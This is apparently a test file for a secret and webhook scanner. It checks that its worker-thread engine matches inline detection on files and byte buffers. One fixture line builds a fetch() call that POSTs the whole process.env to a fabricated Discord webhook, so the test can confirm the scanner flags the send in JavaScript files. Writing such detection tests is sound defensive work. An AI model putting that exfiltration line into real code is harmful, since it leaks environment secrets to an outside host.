// The worker-thread engine (the default for large scans) gives the same matches as detection on the
// calling thread, for files and for bytes, skips included. It runs from the built dist/ (its worker
// is a compiled file), which `npm ci` builds; the rest of the suite runs the sources inline.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { createEngine, InlineEngine, WorkerEngine, workersAvailable } from '../../dist/engine/index.js';
import { loadProviders } from '../../dist/patterns/index.js';
import { fabricate } from '../support/fabricate.js';

const dir = mkdtempSync(join(tmpdir(), 'hookscan-workers-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('the worker-thread engine', () => {
  it('is what large scans use, and matches the inline engine on files and bytes', async () => {
    expect(workersAvailable()).toBe(true);
    const patterns = loadProviders().flatMap((p) => p.patterns);
    const engine = createEngine(patterns, { workers: 2, expectedUnits: 10_000 });
    expect(engine.constructor.name).toBe('WorkerEngine');
    expect(engine.threads).toBe(2);
    const inline = new InlineEngine(patterns);
    const jobs: Parameters<typeof inline.run>[0][] = [];
    for (let i = 0; i < 60; i++) {
      const file = join(dir, `f${i}.js`);
      const body = i % 3 === 0 ? `const a = "${fabricate('slack').url}";\n` : i % 3 === 1 ? `atob("${Buffer.from(fabricate('discord').url).toString('base64')}")\n` : 'nothing here\n';
      writeFileSync(file, body);
      jobs.push({ kind: 'file' as const, file, maxFileSize: 1 << 20 });
      jobs.push({ kind: 'bytes' as const, bytes: new Uint8Array(Buffer.from(body)) });
    }
    // Views into one larger buffer (blobs inside a stream chunk) are copied for the worker: they keep
    // the path they were seen at, whose language decides the evidence (process.env counts in
    // JavaScript, not in a Python file).
    const send = `fetch("${fabricate('discord').url}", { method: "POST", body: JSON.stringify(process.env) });\n`;
    const chunk = Buffer.from(`${send}${send}`);
    const half = chunk.length / 2;
    const views = [
      { kind: 'bytes' as const, bytes: chunk.subarray(0, half), name: 'send.py' },
      { kind: 'bytes' as const, bytes: chunk.subarray(half), name: 'send.js' },
    ];
    jobs.push({ kind: 'file' as const, file: join(dir, 'missing.js'), maxFileSize: 1 << 20 });
    writeFileSync(join(dir, 'bin.dat'), Buffer.from([0, 1, 2, 0, 3]));
    jobs.push({ kind: 'file' as const, file: join(dir, 'bin.dat'), maxFileSize: 1 << 20 });
    try {
      const viaWorkers = await Promise.all(jobs.map((j) => engine.run(structuredClone(j))));
      const viaInline = await Promise.all(jobs.map((j) => inline.run(structuredClone(j))));
      expect(viaWorkers).toEqual(viaInline);
      // Whole batches (the working tree's): the same results, in the jobs' order, on both engines.
      // (Fresh copies for each: the worker engine moves the bytes it is given to the worker.)
      const batches = () => [jobs.slice(0, 64), jobs.slice(64)].map((b) => b.map((j) => structuredClone(j)));
      expect((await Promise.all(batches().map((b) => engine.runAll(b)))).flat()).toEqual(viaInline);
      expect((await Promise.all(batches().map((b) => inline.runAll(b)))).flat()).toEqual(viaInline);
      expect(await engine.runAll([])).toEqual([]);
      // The named parts of a match (id, token, host) cross the thread boundary with it.
      const discord = viaWorkers.flatMap((r) => (r.ok ? r.matches : [])).filter((m) => m.ruleId === 'discord-webhook');
      expect(discord.length).toBeGreaterThan(0);
      for (const m of discord) expect(`${m.captures?.id}/${m.captures?.token}`).toBe(m.secret);
      const [py, js] = await Promise.all(views.map((v) => engine.run(v)));
      const sends = (r: typeof py) => (r.ok ? r.matches.map((m) => m.context?.sends ?? []) : []);
      expect(sends(py)).toEqual([[]]);
      expect(sends(js)).toEqual([[expect.stringMatching(/process\.env/)]]);
      expect(viaWorkers.filter((r) => r.ok && r.matches.length > 0)).toHaveLength(80);
      expect(viaWorkers.filter((r) => !r.ok).map((r) => (r.ok ? '' : r.reason)).sort()).toEqual(['binary', 'unreadable']);
    } finally {
      await engine.close();
    }
  });

  it('rejects every job, sent or waiting to be sent, when a worker dies (none is left hanging)', async () => {
    // A worker that cannot build its detector exits with an error at start-up.
    const engine = new WorkerEngine(undefined as never, 1);
    const first = engine.run({ kind: 'bytes', bytes: new Uint8Array(Buffer.from('a')) });
    await expect(first).rejects.toThrow();
    // After the failure, new jobs are refused at once, one by one or in a batch.
    await expect(engine.run({ kind: 'bytes', bytes: new Uint8Array(Buffer.from('b')) })).rejects.toThrow();
    await expect(engine.runAll([{ kind: 'bytes', bytes: new Uint8Array(Buffer.from('c')) }])).rejects.toThrow();
    await engine.close();
  });

  it('rejects a batch sent before the worker died', async () => {
    const engine = new WorkerEngine(undefined as never, 1);
    await expect(engine.runAll([{ kind: 'bytes', bytes: new Uint8Array(Buffer.from('a')) }, { kind: 'bytes', bytes: new Uint8Array(Buffer.from('b')) }])).rejects.toThrow();
    await engine.close();
  });
});
